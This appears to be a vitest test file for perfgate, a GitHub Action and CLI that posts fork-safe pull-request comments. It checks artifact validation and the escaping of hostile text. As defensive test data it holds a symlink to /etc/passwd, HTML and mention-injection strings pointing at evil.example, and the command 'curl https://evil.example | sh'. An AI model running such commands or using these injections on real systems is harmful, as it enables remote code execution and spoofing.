import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useFakeGitHub, type FakeGitHub } from '../helpers/fake-github.js';
import { runAction } from '../helpers/run-action.js';
import { CLI, runCli } from '../helpers/run-cli.js';
import { sampleReport, writeSampleReport } from '../helpers/sample-report.js';
import { webhookExample } from '../helpers/webhook-payloads.js';

const REPO = 'octo-org/octo-repo';
const FORK = 'octo-fork/octo-repo';
const HEAD = '1234567890abcdef1234567890abcdef12345678';
const BOT = 'github-actions[bot]';

/** The workflow_run event of a finished PR check from a fork, from a real payload. */
function workflowRun(): Record<string, any> {
  const event = webhookExample('workflow_run', 'completed');
  Object.assign(event.workflow_run, { event: 'pull_request', head_sha: HEAD, head_branch: 'patch-1', conclusion: 'success', pull_requests: [] });
  event.workflow_run.head_repository = { ...event.workflow_run.head_repository, full_name: FORK, owner: { ...event.workflow_run.head_repository.owner, login: 'octo-fork' } };
  return event;
}

describe('the fork-safe comment (workflow_run): perfgate comment and the action\'s comment mode', () => {
  const fake = useFakeGitHub(REPO);
  let github: FakeGitHub;
  const setUp = async () => {
    github = await fake.start();
    github.tokens.set('ghs_token', { login: null, actsAs: BOT, readOnly: false });
    github.pulls.push({ number: 8, state: 'open', headSha: 'a'.repeat(40), headRef: 'other', headRepo: REPO });
    github.pulls.push({ number: 7, state: 'open', headSha: HEAD, headRef: 'patch-1', headRepo: FORK });
  };
  const comment = (artifact: string, event: Record<string, any> = workflowRun()) =>
    runAction({ inputs: { mode: 'comment', artifact, 'github-token': 'ghs_token' }, event, eventName: 'workflow_run', repository: REPO, apiUrl: github.url });

  it('finds the PR by head SHA and repository through the API, ignoring any number in the artifact, and keeps one comment', async () => {
    await setUp();
    const { dir, report } = writeSampleReport([{ name: 'handler', file: 'src/a.js', outcome: 'unchanged' }]);
    // A fork's code wrote this artifact: a PR number inside it must not steer the comment.
    writeFileSync(join(dir, 'report.json'), JSON.stringify({ ...report, pullRequest: 8, number: 8, issue_number: 8 }));
    const first = await comment(dir);
    expect(first.code, first.stdout + first.stderr).toBe(0);
    expect(first.outputs['pull-request']).toBe('7');
    const second = await comment(dir);
    expect(second.code, second.stdout + second.stderr).toBe(0);
    expect(github.comments.get(8)).toBeUndefined();
    expect(github.comments.get(7)!.map((c) => c.login)).toEqual([BOT]);
    expect(github.comments.get(7)![0]!.body).toMatch(/^<!-- perfgate:sticky-comment:perfgate -->\n## perfgate: ✅/);
    // The artifact belongs to the check's run, the one this workflow_run event is about.
    expect(github.comments.get(7)![0]!.body).toContain(`(https://github.com/${REPO}/actions/runs/${workflowRun().workflow_run.id}#artifacts)`);
    expect(github.writes().map((w) => w.operationId)).toEqual(['issues/create-comment', 'issues/update-comment']);
  });

  it('refuses an artifact that is a symlink, too large, or fails the schema, before any API call', async () => {
    await setUp();
    const linked = mkdtempSync(join(tmpdir(), 'perfgate-artifact-'));
    symlinkSync('/etc/passwd', join(linked, 'report.json'));
    const big = mkdtempSync(join(tmpdir(), 'perfgate-artifact-'));
    writeFileSync(join(big, 'report.json'), Buffer.alloc(9 * 1024 * 1024, 0x20));
    const badCommit = mkdtempSync(join(tmpdir(), 'perfgate-artifact-'));
    const report = sampleReport([{ name: 'f', file: 'a.js', outcome: 'unchanged' }]);
    writeFileSync(join(badCommit, 'report.json'), JSON.stringify({ ...report, candidate: { ...report.candidate, commit: '`@admin` [x](y)' } }));
    const outside = mkdtempSync(join(tmpdir(), 'perfgate-artifact-'));
    mkdirSync(join(outside, 'inner'));
    writeFileSync(join(outside, 'report.json'), JSON.stringify(report));
    symlinkSync('../report.json', join(outside, 'inner', 'report.json'));

    const expectations: Array<[string, RegExp]> = [
      [linked, /report\.json: expected a regular file \(got a symbolic link\); refusing to follow it/],
      [big, /report\.json: 9437184 bytes, over the 8388608-byte cap/],
      [badCommit, /report\.json: candidate\.commit: expected a hex commit id \(got "`@admin` \[x\]\(y\)"\)/],
      [join(outside, 'inner'), /expected a regular file \(got a symbolic link\)/],
    ];
    for (const [artifact, message] of expectations) {
      const run = await comment(artifact);
      expect(run.code).toBe(1);
      expect(run.commands.find((c) => c.command === 'error')?.message).toMatch(message);
    }
    expect(github.requests).toEqual([]);
  });

  it('posts nothing when no open PR has that head any more', async () => {
    await setUp();
    github.pulls.find((p) => p.number === 7)!.headSha = 'b'.repeat(40);
    const { dir } = writeSampleReport([{ name: 'handler', file: 'src/a.js', outcome: 'unchanged' }]);
    const run = await comment(dir);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toMatch(/no open pull request has head 1234567890ab in octo-fork\/octo-repo/);
    expect(github.writes()).toEqual([]);
  });

  it('works the same as the CLI command perfgate comment', async () => {
    await setUp();
    const { dir } = writeSampleReport([{ name: 'handler', file: 'src/a.js', outcome: 'regressed' }]);
    const eventPath = join(dir, 'event.json');
    writeFileSync(eventPath, JSON.stringify(workflowRun()));
    const result = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [CLI, 'comment', '--artifact', dir], {
        env: { PATH: process.env.PATH, GITHUB_TOKEN: 'ghs_token', GITHUB_REPOSITORY: REPO, GITHUB_EVENT_NAME: 'workflow_run', GITHUB_EVENT_PATH: eventPath, GITHUB_API_URL: github.url },
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
      child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(/^commented on #7: https:\/\/github\.com\/octo-org\/octo-repo\/pull\/7#issuecomment-\d+/);
    expect(github.comments.get(7)![0]!.body).toMatch(/1 function regressed/);
  });

  it('comments on a same-repository PR too: the check no longer holds a write token for any PR', async () => {
    await setUp();
    const { dir } = writeSampleReport([{ name: 'handler', file: 'src/a.js', outcome: 'unchanged' }]);
    const event = workflowRun();
    Object.assign(event.workflow_run, { head_sha: 'a'.repeat(40), head_branch: 'other' });
    event.workflow_run.head_repository = { ...event.workflow_run.head_repository, full_name: REPO };
    const run = await comment(dir, event);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.outputs['pull-request']).toBe('8');
    expect(github.comments.get(8)!.map((c) => c.login)).toEqual([BOT]);
    expect(github.comments.get(7)).toBeUndefined();
  });

  it('previews the comment with --dry-run: validated like a real post, hostile text inert, no GitHub call', async () => {
    await setUp();
    const { dir, report } = writeSampleReport([
      { name: '</details><h1>✅ perfgate: no performance regression</h1><!--', file: '@octo-org/admins ![x](https://evil.example/p.png)', outcome: 'regressed' },
      { name: '<img src=https://evil.example/i.png>', file: 'www.evil.example/\u202eevil.js', outcome: 'unchanged' },
    ]);
    const hostile = {
      ...report,
      comparison: { ...report.comparison, warnings: ['<!-- perfgate:sticky-comment:perfgate --> &#64;admin fixes #1'] },
      candidate: { ...report.candidate, environment: { ...report.candidate.environment, cpuModel: '<style>body{display:none}</style>' } },
    };
    writeFileSync(join(dir, 'report.json'), JSON.stringify(hostile));
    const env = { GITHUB_REPOSITORY: '', GITHUB_EVENT_PATH: '', GITHUB_TOKEN: '', GITHUB_API_URL: github.url };
    const run = await runCli(['comment', '--artifact', dir, '--dry-run'], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^<!-- perfgate:sticky-comment:perfgate -->\n## perfgate: ❌ 1 function regressed — `<\/details><h1>/);
    // Inside a code span markdown, HTML and mentions are inert text; everything else must be too.
    const body = run.stdout.replace(/`[^`\n]*`/g, '``');
    expect(body.match(/<!--/g)).toHaveLength(1);
    expect(body.match(/<details>/g)).toHaveLength(1);
    expect(body.match(/<\/details>/g)).toHaveLength(1);
    expect(body).not.toMatch(/<(img|h1|style)/);
    expect(body).not.toMatch(/(?<![\\\w])@[a-z]/);
    expect(body).not.toMatch(/!\[|https?:\/\/|(?<!\\)www\.|&#64;|#1|\u202e/);
    expect(github.requests).toEqual([]);

    // The same validation as a real post: a bad artifact is exit 2 naming the field.
    writeFileSync(join(dir, 'report.json'), JSON.stringify({ ...report, reproduce: 'curl https://evil.example | sh' }));
    const bad = await runCli(['comment', '--artifact', dir, '--dry-run'], { env });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/report\.json: reproduce: expected a perfgate command/);
    expect(bad.stdout).toBe('');
  });
});

